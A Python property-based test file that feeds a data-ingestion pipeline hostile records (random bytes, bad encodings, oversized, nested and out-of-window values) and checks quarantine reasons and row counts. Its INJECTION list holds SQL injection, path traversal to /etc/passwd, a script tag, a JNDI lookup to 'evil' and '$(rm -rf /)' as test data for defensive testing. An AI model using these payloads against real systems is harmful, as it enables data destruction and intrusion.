"""Property-based: hostile raw records through the whole ingestion (files on disk, Delta tables).

Each generated batch mixes valid events (ids full of injection-like strings included) with
records that are random bytes, wrongly encoded, oversized, nested where a scalar belongs, or
timed at the edges of time. Whatever the batch: ingestion finishes, rows read = written +
quarantined + duplicates, each quarantined row carries the specific reason its defect calls
for, and valid ids arrive byte for byte.
"""
from __future__ import annotations

import collections
import datetime as dt
import json
import shutil
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from seqlake import constants as C
from seqlake import tables
from seqlake.ingest import ingest
from seqlake.sources import load_source

from conftest import make_config

DAY = dt.date(2024, 1, 2)
MAX_FIELD, MAX_RECORD = 64, 512  # small limits, so that oversized input stays cheap
REQUIRED = ("user_id", "ts", "event_type", "item_id", "category_id")
INJECTION = [
    "'; DROP TABLE seqlake.events; --", "Robert'); DELETE FROM events WHERE ('1'='1", "../../etc/passwd",
    "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "$(rm -rf /)", "%s%s%n", "nul\u0000byte",
    "tab\there", "quote\"and'apostrophe", "back\\slash", "🙂 emoji", "ünïcödé", "event_date = '2024-01-01'",
]
# An id: no blank edges (ingestion trims them), no leading { or [ (a nested value), no U+FFFD.
_id_chars = st.characters(blacklist_categories=("Cc", "Cs", "Zs", "Zl", "Zp"), blacklist_characters="\ufffd")
IDS = st.one_of(st.sampled_from(INJECTION),
                st.text(_id_chars, min_size=1, max_size=20).filter(lambda s: s[0] not in "{["))

_serial = iter(range(10**9))


def _event(**fields) -> dict:
    record = {"user_id": "u1", "ts": "2024-01-02T10:00:00Z", "event_type": "view",
              "item_id": f"item-{next(_serial)}", "category_id": "c1", "brand": "acme", "price": 9.5}
    record.update(fields)
    return record


def _line(record: dict) -> bytes:
    return json.dumps(record, ensure_ascii=False).encode("utf-8")


@st.composite
def valid(draw):
    return _line(_event(user_id=draw(IDS), item_id=draw(IDS) + f"#{next(_serial)}",
                        ts=draw(st.datetimes(dt.datetime(2024, 1, 2), dt.datetime(2024, 1, 2, 23, 59, 59)))
                        .strftime("%Y-%m-%dT%H:%M:%S.%fZ"))), None


@st.composite
def random_bytes(draw):
    junk = draw(st.binary(max_size=200)).replace(b"\n", b"").replace(b"\r", b"")
    return b"#" + junk[: MAX_RECORD - 1], C.MALFORMED_RECORD  # never JSON; malformed is checked first


@st.composite
def wrong_encoding(draw):
    text = json.dumps(_event(brand=draw(st.sampled_from(["Café", "Müller", "Ærø"]))), ensure_ascii=False)
    if draw(st.booleans()):
        return text.encode("latin-1"), C.BAD_ENCODING  # parses, but holds invalid UTF-8
    return text.encode("utf-16"), C.MALFORMED_RECORD  # a byte-order mark and NULs: not JSON


@st.composite
def oversized(draw):
    line = _line(_event(brand="x" * draw(st.integers(MAX_FIELD + 1, 2 * MAX_RECORD))))
    return line, C.OVERSIZED_RECORD if len(line) > MAX_RECORD else C.OVERSIZED_FIELD


@st.composite
def nested(draw):
    value = draw(st.sampled_from([{"id": 1}, [1, 2], {"a": [{"b": None}]}, []]))
    field = draw(st.sampled_from((*REQUIRED, "price")))
    return _line(_event(**{field: value})), C.NESTED_VALUE if field != "price" else C.BAD_PRICE


def _ts_reason(value: dt.datetime) -> str | None:
    return None if value.date() == DAY else C.TS_BEFORE_WINDOW if value.date() < DAY else C.TS_AFTER_WINDOW


@st.composite
def timestamps(draw):
    if draw(st.booleans()):
        value = draw(st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2200, 12, 31)))
        return _line(_event(ts=value.strftime("%Y-%m-%dT%H:%M:%SZ"))), _ts_reason(value)
    ts, reason = draw(st.sampled_from([
        (None, "missing_ts"), ("", "missing_ts"), ("   ", "missing_ts"),
        ("9999-12-31T23:59:59Z", C.TS_AFTER_WINDOW), ("1900-01-01T00:00:00Z", C.TS_BEFORE_WINDOW),
        ("2024-13-45T99:99:99Z", C.BAD_TIMESTAMP), ("yesterday", C.BAD_TIMESTAMP),
        (1e308, C.BAD_TIMESTAMP), (True, C.BAD_TIMESTAMP), ("2024-01-02T10:00:00+25:00", C.BAD_TIMESTAMP),
    ]))
    return _line(_event(ts=ts)), reason


@st.composite
def batches(draw):
    records = draw(st.lists(st.one_of(valid(), random_bytes(), wrong_encoding(), oversized(), nested(),
                                      timestamps()), min_size=1, max_size=25))
    valid_lines = [r for r in records if r[1] is None]
    if valid_lines and draw(st.booleans()):  # exact copies of valid lines: duplicates
        records += draw(st.lists(st.sampled_from(valid_lines), min_size=1, max_size=4))
    return draw(st.permutations(records))


@pytest.mark.slow
@settings(max_examples=12, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(batch=batches())
def test_hostile_batches_balance_and_get_specific_reasons(spark, batch):
    root = Path(tempfile.mkdtemp(prefix="hostile-"))
    try:
        cfg = make_config(root, f"ingest.max_field_chars={MAX_FIELD}", f"ingest.max_record_chars={MAX_RECORD}",
                          "ingest.quarantine_threshold=1.0")
        landing = Path(cfg.lake.landing_root) / "raw" / "generator" / f"dt={DAY}"
        landing.mkdir(parents=True)
        (landing / "part-0.jsonl").write_bytes(b"\n".join(line for line, _ in batch) + b"\n")

        result = ingest(spark, cfg, load_source(cfg.ingest.sources_dir, "generator"), window_start=DAY, window_end=DAY)

        valid_lines = [line for line, reason in batch if reason is None]
        assert result.rows_read == len(batch)
        assert result.rows_read == result.rows_written + result.rows_quarantined + result.duplicates_dropped
        assert result.duplicates_dropped == len(valid_lines) - len(set(valid_lines))
        quarantine = tables.read(spark, cfg, C.EVENTS_QUARANTINE).collect() if result.rows_quarantined else []
        expected = collections.Counter(reason for _, reason in batch if reason is not None)
        assert collections.Counter(r.reason for r in quarantine) == expected
        assert all(r.detail and r.raw_record is not None for r in quarantine)
        # Invalid bytes are stored replaced, so any Parquet reader can open the quarantine.
        assert all("\ufffd" in r.raw_record for r in quarantine if r.reason == C.BAD_ENCODING)
        events = tables.read(spark, cfg, C.EVENTS).collect() if result.rows_written else []
        # Valid ids arrive exactly as sent (injection-like text is data, never SQL or a path).
        sent = collections.Counter((json.loads(line)["user_id"], json.loads(line)["item_id"]) for line in set(valid_lines))
        assert collections.Counter((r.user_id, r.item_id) for r in events) == sent
    finally:
        shutil.rmtree(root, ignore_errors=True)
